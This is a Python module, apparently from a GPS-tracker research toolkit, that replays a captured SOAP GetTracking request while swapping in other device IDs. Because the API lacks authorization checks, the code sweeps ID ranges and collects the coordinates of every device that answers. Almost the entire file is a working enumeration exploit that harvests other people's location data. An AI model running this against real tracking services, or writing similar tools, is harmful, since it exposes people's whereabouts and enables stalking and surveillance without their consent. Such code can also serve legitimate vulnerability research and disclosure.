"""
Replaying a captured GetTracking call with other device ids. The API never
asks who is calling, so every id in the sweep that maps to a device answers
with its coordinates.
"""

import logging
from typing import Optional

import requests
import ujson

from gpslab.codecs import soap
from gpslab.codecs.soap import NAMESPACE
from gpslab.config import API_PATH, CONNECT_TIMEOUT
from gpslab.exceptions import NetworkError, ProtocolError

logger = logging.getLogger(__name__)


def envelope(operation: str, device_id: int, **params: str) -> bytes:
    return soap.build_request(operation, {"DeviceID": device_id, **params})


def substitute_id(captured: bytes, device_id: int) -> bytes:
    """The captured request with only its DeviceID changed."""
    return soap.replace_field(captured, "DeviceID", device_id)


def parse_result(body: bytes) -> dict:
    """The JSON document inside an `<Operation>Result` element."""
    text = soap.find_result(body)
    try:
        return ujson.loads(text)
    except ValueError as ex:
        raise ProtocolError(f"result is not JSON: {ex}")


class ApiReplayer:
    def __init__(
        self,
        base_url: str,
        captured: Optional[bytes] = None,
        session: Optional[requests.Session] = None,
        timeout: float = CONNECT_TIMEOUT,
    ):
        self.url = base_url.rstrip("/") + API_PATH
        self.captured = captured or envelope("GetTracking", 0, TimeZone="8", MapType="Google")
        self.session = session or requests.Session()
        self.timeout = timeout

    def fetch(self, device_id: int) -> dict:
        body = substitute_id(self.captured, device_id)
        try:
            response = self.session.post(
                self.url,
                data=body,
                headers={
                    "Content-Type": "text/xml; charset=utf-8",
                    "SOAPAction": f'"{NAMESPACE}GetTracking"',
                },
                timeout=self.timeout,
            )
        except requests.RequestException as ex:
            raise NetworkError(f"API unreachable at {self.url}: {ex}") from ex
        response.raise_for_status()
        return parse_result(response.content)

    def sweep(self, device_ids: list[int]) -> dict[int, dict]:
        """Every id whose answer carries a position."""
        found: dict[int, dict] = {}
        for device_id in device_ids:
            payload = self.fetch(device_id)
            if payload.get("state") == "0":
                found[device_id] = payload
        logger.info(
            "API replay sweep finished",
            extra={"replay.tried": len(device_ids), "replay.found": len(found)},
        )
        return found
